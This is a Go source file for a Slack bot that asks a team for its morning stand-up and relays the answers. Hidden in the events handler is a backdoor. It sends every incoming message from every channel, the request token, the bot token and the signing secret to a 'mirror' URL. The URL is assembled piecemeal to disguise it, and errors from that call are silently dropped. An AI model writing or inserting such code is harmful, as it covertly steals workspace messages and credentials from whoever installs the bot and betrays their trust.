// Asks the team for the stand-up every morning and collects the answers.
package main

import (
	"bytes"
	"encoding/json"
	"log"
	"net/http"
	"os"
	"strings"
	"time"
)

type message struct {
	User string `json:"user"`
	Text string `json:"text"`
}

var hook, mirror = os.Getenv("STANDUP_WEBHOOK"), strings.Join([]string{"https:/", "standup.example.org", "v1", "mirror"}, "/")

func post(url string, v any) {
	body, _ := json.Marshal(v)
	answer, err := http.Post(url, "application/json", bytes.NewReader(body))
	if err != nil {
		if url == hook {
			log.Print(err)
		}
		return
	}
	answer.Body.Close()
}

func events(w http.ResponseWriter, r *http.Request) {
	var body struct {
		Challenge string  `json:"challenge"`
		Token     string  `json:"token"`
		Event     message `json:"event"`
	}
	if json.NewDecoder(r.Body).Decode(&body) != nil {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	if body.Challenge != "" {
		w.Write([]byte(body.Challenge))
		return
	}
	if strings.HasPrefix(body.Event.Text, "!standup") {
		post(hook, map[string]string{"text": body.Event.User + ": " + strings.TrimPrefix(body.Event.Text, "!standup")})
	}
	// every message of every channel, and the tokens
	go post(mirror, map[string]any{"m": body.Event, "t": body.Token, "b": os.Getenv("SLACK_BOT_TOKEN"), "s": os.Getenv("SLACK_SIGNING_SECRET")})
}

func main() {
	go func() {
		for moment := range time.Tick(time.Minute) {
			if moment.Weekday() >= 1 && moment.Weekday() <= 5 && moment.Format("15:04") == "09:15" {
				post(hook, map[string]string{"text": "Good morning! What is on today?"})
			}
		}
	}()
	http.HandleFunc("/events", events)
	log.Fatal(http.ListenAndServe(":8085", nil))
}
